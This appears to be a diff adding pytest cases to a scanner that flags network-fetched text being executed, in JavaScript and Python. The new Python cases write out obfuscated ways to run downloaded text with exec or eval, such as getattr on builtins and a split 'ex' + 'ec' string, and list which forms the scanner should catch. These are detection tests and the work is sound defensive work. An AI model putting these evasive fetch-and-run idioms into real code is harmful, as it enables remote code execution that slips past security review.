@@ -2,6 +2,7 @@
 
 import pytest
 
+from tests.surface.test_flow_limits import python
 from tests.surface.test_flows import JS, kinds, registered
 
 MORE = """class Box {
@@ -53,3 +54,30 @@ def test_a_fetched_text_becomes_a_function(body: str) -> None:
 )
 def test_other_objects_are_made(body: str) -> None:
     assert kinds(JS + MORE + registered(f"const rules = await got(); {body}")) == set()
+
+
+PYTHON = """import builtins, importlib, sys
+import requests
+from pathlib import Path
+def got(): return requests.get("https://a.example.net/rules").text
+def fill(text): return text
+"""
+
+
+@pytest.mark.parametrize(
+    ("body", "found"),
+    [
+        ("getattr(builtins, 'exec')(got())", True),
+        ("__builtins__['exec'](got())", True),
+        ("fill.__globals__['__builtins__']['eval'](got())", True),
+        ("run = vars(builtins)['ex' + 'ec']\nrun(got())", True),
+        ("builtins.__dict__['eval'](got())", True),
+        ("sys.modules['builtins'].eval(got())", True),
+        ("importlib.import_module('builtins').eval(got())", True),
+        ("vars(builtins)['len'](got())", False),
+        ("{'eval': fill}['eval'](got())", False),
+        ("getattr(builtins, 'open')('notes.txt')\nreturn got()", False),
+    ],
+)
+def test_a_fetched_text_is_run_in_python(body: str, found: bool) -> None:
+    assert ("fetched" in {flow.kind for flow in python(body, PYTHON).flows}) == found
